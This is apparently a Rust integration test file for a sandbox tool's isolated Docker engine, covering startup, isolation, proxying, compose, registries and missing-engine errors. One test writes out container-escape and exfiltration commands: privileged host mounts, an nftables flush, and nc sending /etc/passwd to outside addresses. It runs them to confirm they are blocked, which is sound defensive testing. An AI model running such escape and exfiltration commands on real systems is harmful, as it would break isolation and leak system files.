//! The Docker engine of a sandbox: there when it is used, with the sandbox's network, and nobody else's.
//!
//! Images are made in the sandbox from its own programs, so that no registry is needed.

use std::time::Duration;

use hutch_testkit::{Invocation, Registry, RegistryAccess, TestEnvironment, TestSandbox};

/// Makes the image `base` of the sandbox's own shell, curl and a few more.
const BASE: &str = r#"
programs="sh cat env ls sleep curl nc head id mount touch rm getent"
libraries=$(cd /usr/bin && ldd $programs | grep -o '/lib[^ ]*' | sed 's,^/,,' | sort -u)
tar -C /usr -ch $(printf 'bin/%s ' $programs) $libraries -C / etc/passwd | docker import -c 'ENV PATH=/bin' - base >/dev/null
"#;

/// A server of one answer after another.
const SERVE: &str = r#"while :; do printf 'HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nserved' | nc -N -l 80 >/dev/null; done"#;

/// Several programs of the engine's have to start, on an emulated processor.
const LONG: Duration = Duration::from_secs(280);

fn docker(sandbox: &TestSandbox<'_>, script: &str) -> Invocation {
    sandbox.exec(["bash", "-c", script]).limit(LONG)
}

#[track_caller]
fn with_base(sandbox: &TestSandbox<'_>) {
    docker(sandbox, BASE).run().success();
}

#[test]
fn the_first_use_starts_an_engine_that_survives_a_stop() {
    let environment = TestEnvironment::new();
    let sandbox = environment.boot("engine");
    // Nothing runs, but the socket is there, and the agent's.
    docker(&sandbox, "test -S /var/run/docker.sock && ! pgrep dockerd").run().success();
    let id = docker(&sandbox, "docker info --format '{{.ID}}'").run().success().text();
    assert!(id.len() > 30, "{id}");
    with_base(&sandbox);
    let run =
        docker(&sandbox, "docker run --rm -v \"$PWD:/w\" base sh -c 'echo x > /w/made; id -u'");
    run.run().success().says("0");
    assert!(sandbox.workspace().join("made").exists());
    // Its data is on the data disk itself.
    docker(&sandbox, "test $(stat -f -c %T /var/lib/docker) = ext2/ext3").run().success();
    docker(&sandbox, "docker volume create kept && docker run --rm -v kept:/v base touch /v/file")
        .run()
        .success();

    // Killed, it is there again for the next client.
    sandbox.root_shell("pkill -9 dockerd; while pgrep dockerd; do sleep 0.1; done").run().success();
    assert_eq!(docker(&sandbox, "docker info --format '{{.ID}}'").run().success().text(), id);

    sandbox.stop();
    docker(&sandbox, "test -S /var/run/docker.sock && ! pgrep dockerd").run().success();
    let after =
        docker(&sandbox, "docker info --format '{{.ID}}'; docker run --rm -v kept:/v base ls /v");
    assert_eq!(after.run().success().text(), format!("{id}\nfile"));
}

#[test]
fn sandboxes_and_host_have_nothing_of_each_others() {
    let environment = TestEnvironment::new();
    let (first, second) = (environment.boot("mine"), environment.boot("yours"));
    let id = "docker info --format '{{.ID}}'";
    let ids = [&first, &second].map(|sandbox| docker(sandbox, id).run().success().text());
    assert_ne!(ids[0], ids[1]);
    with_base(&first);
    docker(&first, "docker run -d --name one base sleep 600 && docker network create net")
        .run()
        .success();
    let seen =
        docker(&second, "docker ps -aq; docker images -q; docker network ls --format '{{.Name}}'");
    let seen = seen.run().success().text();
    let mut lines: Vec<&str> = seen.lines().collect();
    lines.sort_unstable();
    assert_eq!(lines, ["bridge", "host", "none"]);
    // The host's own socket, where there is one, is not this one.
    let on_host = environment.program("docker").args(["info", "--format", "{{.ID}}"]).run();
    assert!(!on_host.text().contains(&ids[0]) && !on_host.text().contains(&ids[1]), "{on_host:?}");
}

#[test]
fn containers_and_builds_have_proxy_and_certificates() {
    let environment = TestEnvironment::with_internet();
    let sandbox = environment.boot("contained");
    environment.hutch(["network", "proxy", sandbox.name(), "--inspect", "all"]).run().success();
    with_base(&sandbox);
    let variables = docker(&sandbox, "docker run --rm base env").run().success().text();
    for wanted in [
        "HTTP_PROXY=http://host.docker.internal:3128",
        "https_proxy=http://host.docker.internal:3128",
        "NO_PROXY=localhost,127.0.0.1,::1",
        "SSL_CERT_FILE=/dev/hutch/ca-certificates.crt",
        "NODE_EXTRA_CA_CERTS=/dev/hutch/proxy-ca.crt",
    ] {
        assert!(variables.lines().any(|line| line.starts_with(wanted)), "{wanted} in {variables}");
    }
    // By the explicit proxy, and captured; TLS is terminated, so the certificate is trusted.
    for way in ["curl -sSf", "curl -sSf --noproxy '*'"] {
        for network in ["bridge", "host"] {
            docker(
                &sandbox,
                &format!("docker run --rm --network {network} base {way} https://web.test/"),
            )
            .run()
            .success()
            .says("hello from web.test");
        }
    }
    docker(
        &sandbox,
        "docker run -d --name long base sleep 600 >/dev/null && docker exec long curl -sSf https://exec.test/",
    )
    .run()
    .success()
    .says("hello from exec.test");
    // Nothing of it is in an image, and a step that downloads works as it is.
    let build = "mkdir -p image && cd image && printf 'FROM base\\nRUN curl -sSf https://step.test/ > /got && cat /got\\n' > Dockerfile \
         && docker build -q -t built . >/dev/null && docker run --rm built cat /got && docker save built | tar -xO | grep -ac dev/hutch || true";
    docker(&sandbox, build).run().success().says("hello from step.test\n0");
    let asked = environment.internet().report();
    for host in ["web.test", "exec.test", "step.test"] {
        assert!(!asked.of(host).is_empty(), "{host} in {asked:?}");
    }
}

#[test]
fn a_project_of_two_services_with_a_build_step_comes_up() {
    let environment = TestEnvironment::new();
    let sandbox = environment.boot("composed");
    with_base(&sandbox);
    let compose = r#"services:
  web:
    build: .
    ports: ["8080:80"]
  client:
    image: base
    depends_on: [web]
    command: sh -c 'until curl -sSf http://web/; do sleep 1; done; echo; sleep 600'
"#;
    let directory = sandbox.workspace();
    environment.write(&directory.join("compose.yaml"), compose);
    environment.write(&directory.join("serve.sh"), SERVE);
    environment.write(
        &directory.join("Dockerfile"),
        "FROM base\nCOPY serve.sh /serve.sh\nRUN touch /built\nCMD [\"sh\", \"/serve.sh\"]\n",
    );
    docker(&sandbox, "docker compose up -d --quiet-pull 2>&1").run().success();
    docker(
        &sandbox,
        "curl -sSf --retry 20 --retry-connrefused --retry-delay 1 http://localhost:8080/",
    )
    .run()
    .success()
    .says("served");
    docker(&sandbox, "for i in $(seq 60); do docker compose logs client | grep -q served && exit 0; sleep 1; done; docker compose logs; exit 1")
        .run()
        .success();
    docker(&sandbox, "docker compose down -t 1").run().success();
}

#[test]
fn images_go_to_and_come_from_a_registry_through_the_proxy() {
    let environment = TestEnvironment::with_internet();
    let registry = Registry::start(&environment, RegistryAccess::Open);
    environment.configure(&format!(
        "[network]\nca_files = [\"{}\", \"{}\"]\n",
        environment.internet().ca_file().display(),
        registry.certificate().display()
    ));
    let sandbox = environment.boot("registry");
    with_base(&sandbox);
    let script = "set -e; docker tag base registry.test:5000/some/base:1; docker push -q registry.test:5000/some/base:1; \
        docker rmi -f base registry.test:5000/some/base:1 >/dev/null; test -z \"$(docker images -q)\"; \
        docker run --rm registry.test:5000/some/base:1 id -u";
    docker(&sandbox, script).run().success();
    let log = environment.hutch(["network", "log"]).run().success().text();
    assert!(log.contains("registry.test:5000"), "{log}");
    let _ended = registry.stop();
}

#[test]
fn containers_gain_no_way_out() {
    let environment = TestEnvironment::with_internet();
    let sandbox = environment.boot("escape");
    with_base(&sandbox);
    // The packet rules of the whole machine are gone, and with them the captured way.
    let script = "docker run --rm --privileged --network host --pid host -v /:/host base true && \
        docker run --rm --privileged --network host -v /:/host base sh -c 'LD_LIBRARY_PATH=/host/usr/lib/x86_64-linux-gnu /host/usr/sbin/nft flush ruleset' && \
        for network in bridge host; do docker run --rm --privileged --network $network base sh -c \
            'curl -s -m 5 --noproxy \"*\" http://203.0.113.10/ && echo out; nc -u -w 1 203.0.113.10 7 </etc/passwd; nc -w 2 10.0.0.5 80 </etc/passwd && echo out'; done; true";
    let outcome = docker(&sandbox, script).run().success();
    assert!(!outcome.text().contains("out"), "{outcome:?}");
    assert!(environment.internet().report().connections.is_empty());
}

#[test]
fn an_eager_engine_runs_before_anyone_asks() {
    let environment = TestEnvironment::new();
    let project = environment.project("eager");
    environment
        .hutch(["create", "-q", "--name", "eager", "--docker", "eager", "shell"])
        .args([&project])
        .run()
        .success();
    environment
        .hutch(["exec", "eager", "bash", "-c"])
        .args(["for i in $(seq 120); do pgrep -x dockerd && exit; sleep 0.5; done; exit 1"])
        .limit(LONG)
        .run()
        .success();
}

#[test]
fn without_an_engine_the_socket_says_so() {
    let environment = TestEnvironment::new();
    let sandbox = environment.boot("engineless");
    sandbox.root_shell("mv /usr/sbin/dockerd /usr/sbin/dockerd.away").run().success();
    let refused = docker(&sandbox, "docker ps").run().failure();
    assert!(refused.talk().contains("this sandbox has no Docker engine"), "{refused:?}");
    // What is wrong with the settings is told by the engine itself, and gone when they are right.
    sandbox
        .root_shell("mv /usr/sbin/dockerd.away /usr/sbin/dockerd; mkdir -p /etc/docker; echo '{\"no-such\":1}' > /etc/docker/daemon.json")
        .run()
        .success();
    let refused = docker(&sandbox, "docker ps").run().failure();
    assert!(refused.talk().contains("no-such"), "{refused:?}");
    sandbox.root_shell("rm /etc/docker/daemon.json").run().success();
    docker(&sandbox, "docker ps").run().success();
}
